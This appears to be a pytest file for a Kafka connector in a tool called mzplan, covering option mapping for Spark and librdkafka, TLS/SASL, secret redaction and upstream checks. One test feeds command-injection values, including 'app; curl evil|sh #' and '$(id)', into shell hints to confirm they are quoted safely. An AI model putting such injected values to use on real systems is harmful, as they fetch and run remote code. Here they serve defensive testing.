"""Kafka without a broker: client options in two dialects, and which upstream it is."""

from __future__ import annotations

import re
import shlex
import tracemalloc
from concurrent.futures import Future
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from confluent_kafka import KafkaError, KafkaException

from mzplan.connectors.api.queries import ResolvedConnection, ResolvedQuery, resolve
from mzplan.connectors.kafka import client, probe
from mzplan.connectors.kafka.client import ClusterError
from mzplan.connectors.kafka.options import jaas, librdkafka_options, reader_options
from mzplan.connectors.kafka.probe import compare_upstreams
from mzplan.connectors.kafka.problems import _DENIED, KafkaProblems
from mzplan.connectors.kafka.source import record_options, stream_options
from mzplan.model.address import Address
from mzplan.model.diagnostics import ExitCode, MzplanError
from mzplan.model.words import nearest
from mzplan.schema.description import Description, InlinedConnection
from mzplan.schema.kinds import resource_kind
from mzplan.secrets.references import Secrets

RECORDED = {"type": "kafka", "cluster_id": "c1", "topic": "orders", "topic_id": "t1", "partitions": 3}


def connection(**body: Any) -> ResolvedConnection:
    defaults = resource_kind("connection", "kafka").with_defaults
    return ResolvedConnection(
        address=Address("connection", "k"),
        type="kafka",
        body=defaults({"type": "kafka", "brokers": ["a:1", "b:2"], **body}),
    )


def source(**security: Any) -> Description:
    body = {"type": "kafka", "brokers": ["a:1"], **({"security": security} if security else {})}
    return Description(
        address=Address("source", "orders"),
        id="id",
        generation=1,
        digest="1:a",
        type="kafka",
        body={"connection": "k", "topic": "orders", "format": {"type": "json", "schema": "id BIGINT"}},
        connections={
            "connection": InlinedConnection(address=Address("connection", "k"), type="kafka", body=body)
        },
    )


def query() -> ResolvedQuery:
    return resolve(source(), Secrets(".", {}), ".")


@pytest.mark.parametrize(
    ("start", "options"),
    [
        ("earliest", {"startingOffsets": "earliest"}),
        (
            "1970-01-01T01:00:01+01:00",
            {"startingTimestamp": "1000", "startingOffsetsByTimestampStrategy": "latest"},
        ),
    ],
)
def test_where_a_stream_begins(start: str, options: dict[str, str]) -> None:
    description = source()
    described = replace(description, body={**description.body, "start_offsets": start})
    query = resolve(described, Secrets(".", {}), ".")
    found = stream_options(query)
    assert {name: value for name, value in found.items() if name.startswith("starting")} == options
    # A step that is read again has its own offsets, which Spark would take second to a time.
    assert not options.keys() & record_options(query).keys()


def test_a_topic_of_nearly_this_name() -> None:
    class Admin:
        def __init__(self, there: list[str] | None):
            self.there = there

        def describe_topics(self, *_: Any, **__: Any) -> dict[str, Future[Any]]:
            missing: Future[Any] = Future()
            missing.set_exception(KafkaException(KafkaError(KafkaError.UNKNOWN_TOPIC_OR_PART)))
            return {"orders": missing}

        def describe_cluster(self, **_: Any) -> Future[Any]:
            return Future()

        def list_topics(self, timeout: float) -> Any:
            if self.there is None:
                raise KafkaException(KafkaError(KafkaError._TIMED_OUT))
            return SimpleNamespace(topics=dict.fromkeys(self.there))

        def poll(self, _: float) -> int:
            return 0

    create = "kafka-topics.sh --bootstrap-server a:1 --create --topic orders"
    for there, hint in (
        (["shop", "order"], f"did you mean order? Otherwise, create it: {create}"),
        (["shop"], f"create it: {create}"),
        (None, f"create it: {create}"),
    ):
        client: Any = SimpleNamespace(admin=Admin(there), problems=[])
        with pytest.raises(ClusterError) as caught:
            probe.identify(client, query(), False)
        (found,) = caught.value.diagnostics
        assert (found.code, found.hint) == ("MZ052", hint)


def test_what_a_hint_has_a_shell_do_is_quoted() -> None:
    """A name, a topic, a broker and an id that somebody else has written, in a command that is pasted."""
    evil = "app; curl evil|sh #"
    described = source(protocol="SASL_SSL", sasl={"mechanism": "PLAIN", "username": evil, "password": "p"})
    described = replace(described, id="$(id)", body={**described.body, "topic": "`id`"})
    asked = resolve(described, Secrets(".", {}), ".")
    asked.link.body["brokers"][0] = "a:1;id"
    hints = [client.not_allowed(asked, "`id`"), client._no_topic(asked, "`id`")]
    hints += [KafkaProblems(asked)._denied(name, "mzplan.$(id)") for name in _DENIED]
    for problem in hints:
        (told,) = problem.diagnostics
        command = told.hint.partition("create it: ")[2] or told.hint.removesuffix(
            "; or set delivery: at-least-once."
        )
        words = shlex.split(command)
        names = {"a:1;id", f"User:{evil}", "`id`", "mzplan.$(id)"}
        assert words[2] == "a:1;id" and all(w in names or re.fullmatch(r"[\w.-]+", w) for w in words)


def test_what_a_broker_names_is_not_kept_and_has_a_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    """One that lies names others each time, as long as it likes, and as many."""
    tracemalloc.start()
    for look in range(3):
        assert nearest("orders", (f"{look}{number}".ljust(32_000, "x") for number in range(1000))) is None
    assert tracemalloc.get_traced_memory()[0] < 1 << 20
    tracemalloc.stop()
    taken = iter(range(10**9))
    assert nearest("orders", (f"topic{number}" for number in taken)) is None
    assert next(taken) < 1_000_000
    made: list[dict[str, Any]] = []
    monkeypatch.setattr(client, "AdminClient", made.append)
    client.new_client(query(), {"bootstrap.servers": "a:1"})
    assert made[0]["receive.message.max.bytes"] < 10_000_000


def test_a_password_can_not_leave_its_quotes() -> None:
    line = jaas("PLAIN", 'u"x', 'p\\" required; evil="\n')
    assert line == (
        "org.apache.kafka.common.security.plain.PlainLoginModule required "
        'username="u\\"x" password="p\\\\\\" required; evil=\\"\\n";'
    )


def test_plain_text_needs_nothing_but_the_brokers() -> None:
    assert reader_options(connection(), ".")["kafka.bootstrap.servers"] == "a:1,b:2"
    assert reader_options(connection(), ".")["kafka.security.protocol"] == "PLAINTEXT"
    options = librdkafka_options(connection(), ".")
    assert options["bootstrap.servers"] == "a:1,b:2"
    assert not any(key.startswith(("sasl", "ssl")) for key in options)


def test_tls_and_sasl_in_both_dialects(tmp_path: Path) -> None:
    (tmp_path / "ca.pem").write_text("CA")
    (tmp_path / "me.pem").write_text("ME")
    cluster = connection(
        security={
            "protocol": "SASL_SSL",
            "sasl": {"mechanism": "SCRAM-SHA-512", "username": "app", "password": "secret"},
            "ssl": {"ca": "ca.pem", "certificate": "me.pem", "key": "KEY", "verify_hostname": False},
        },
        options={"client.id": "me", "fetch.min.bytes": 1, "check.crcs": True},
    )
    java = reader_options(cluster, str(tmp_path))
    assert java["kafka.ssl.truststore.certificates"] == "CA"
    assert java["kafka.ssl.keystore.certificate.chain"] == "ME"
    assert java["kafka.ssl.keystore.key"] == "KEY"
    assert java["kafka.ssl.endpoint.identification.algorithm"] == ""
    assert java["kafka.sasl.mechanism"] == "SCRAM-SHA-512"
    assert 'ScramLoginModule required username="app" password="secret";' in java["kafka.sasl.jaas.config"]
    assert (java["kafka.fetch.min.bytes"], java["kafka.check.crcs"]) == ("1", "true")
    other = librdkafka_options(cluster, str(tmp_path))
    assert other["ssl.ca.pem"] == "CA"
    assert other["ssl.key.pem"] == "KEY"
    assert other["ssl.endpoint.identification.algorithm"] == "none"
    assert other["sasl.password"] == "secret"
    assert other["client.id"] == "me"
    assert "fetch.min.bytes" not in other, "librdkafka calls it otherwise"


def test_options_of_the_user_win() -> None:
    options = reader_options(connection(options={"request.timeout.ms": 1}), ".")
    assert options["kafka.request.timeout.ms"] == "1"


def test_secrets_are_in_no_repr() -> None:
    description = source(
        protocol="SASL_SSL", sasl={"mechanism": "PLAIN", "username": "app", "password": "${env:PW}"}
    )
    resolved = resolve(description, Secrets(".", {"PW": "s3cret"}), ".")
    assert resolved.link.body["security"]["sasl"]["password"] == "s3cret"
    assert "s3cret" not in repr(resolved)
    with pytest.raises(MzplanError) as caught:
        resolve(description, Secrets(".", {}), ".")
    assert caught.value.diagnostics[0].code == "MZ056"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"cluster_id": "c2"}, "Kafka cluster c2 instead of c1"),
        ({"topic_id": "t2"}, "deleted and created again"),
        ({"partitions": 2}, "has 2 partitions instead of 3"),
    ],
)
def test_another_upstream_is_refused(change: dict[str, Any], said: str) -> None:
    found = compare_upstreams(query(), RECORDED, {**RECORDED, **change})
    assert found is not None
    assert (found.code, found.exit_code) == ("MZ043", ExitCode.REFUSED)
    assert said in found.detail
    assert "connection.k (a:1)" in found.detail
    assert "--replace source.orders" in found.hint


@pytest.mark.parametrize("change", [{}, {"partitions": 9}, {"topic_id": None}])
def test_the_same_upstream(change: dict[str, Any]) -> None:
    assert compare_upstreams(query(), RECORDED, {**RECORDED, **change}) is None
